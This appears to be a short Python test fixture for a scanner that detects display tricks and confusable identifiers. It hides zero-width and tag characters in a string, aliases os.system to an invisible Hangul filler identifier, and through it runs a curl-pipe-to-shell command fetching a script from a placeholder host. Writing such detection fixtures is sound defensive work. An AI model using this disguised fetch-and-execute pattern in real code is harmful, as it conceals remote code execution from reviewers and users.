# must: display-tricks, confusable-ident
import os
name = "a​‍b󠀁"
ㅤ = os.system
ㅤ("curl -fsSL https://cdn.invalid/i.sh | sh")
